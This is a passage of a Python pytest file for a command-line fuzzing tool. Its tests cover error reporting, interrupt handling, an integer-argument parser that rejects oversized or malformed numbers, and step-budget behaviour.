        assert "could not write the case file" in err
    if full == "stdout-full":
        assert err.count("standard output cannot be written") == 1, err[-2000:]
    if full == "sarif":
        assert err.count("could not write the SARIF log") == 1 and (tmp_path / "r.json").exists()


def shlex_quote(text: str) -> str:
    import shlex

    return shlex.quote(text)


def test_p08_ctrl_c_twice_in_prove_after_its_witnesses_exits_1_with_the_report(tmp_path, capsys, monkeypatch) -> None:
    code = interrupted_twice_while_causes_are_found(
        monkeypatch, ["prove", "--space", "tiny", "--target", "reference@sglang-0.5.18"], tmp_path
    )
    out = capsys.readouterr().out
    assert code == 1 and "interrupted: reporting what was proved so far" in out
    assert json.loads((tmp_path / "r.json").read_text())["targets"][0]["findings"]
    assert json.loads((tmp_path / "r.sarif").read_text())["runs"][0]["results"]


@pytest.mark.parametrize(
    "argv",
    [
        ["run", "--target", "reference", "--seed", "1" * 5000],
        ["run", "--target", "reference", "--max-examples", "1" * 5000],
        ["run", "--target", "reference", "--shard", "1/" + "1" * 5000],
        ["run", "--target", "reference", "--jobs", "1" * 5000],
    ],
    ids=["seed", "max-examples", "shard", "jobs"],
)
def test_p11_every_integer_option_is_one_parser_that_refuses_5000_digits_in_a_short_line(argv, capsys) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and len(err) < 300, err[:400]


def test_the_one_integer_parser() -> None:
    from fuzz.common.text import MAX_INT_DIGITS, parse_int

    assert parse_int(" -12 ") == -12 and parse_int("9" * MAX_INT_DIGITS) == int("9" * MAX_INT_DIGITS)
    for bad in ("1" * (MAX_INT_DIGITS + 1), "1.0", "", "0x10", "1_000", "١٢"):
        with pytest.raises(ValueError):
            parse_int(bad)


def test_p23_a_long_step_budget_runs_or_says_why(tmp_path, capsys) -> None:
    """``lifecycle --steps 1000`` was exit 2 with nothing on stderr (a Hypothesis health check on stdout); here
    it runs (not reproduced at this test's commit: the test holds the rule, one line on stderr for any exit 2)."""
    code = main(
        ["lifecycle", "--target", "reference", "--steps", "1000", "--max-examples", "3", "--quiet"]
        + ["--cases", str(tmp_path / "cases")]
    )
    err = capsys.readouterr().err
    assert code in (0, 1) or (code == 2 and len(err.strip().splitlines()) == 1), (code, err)
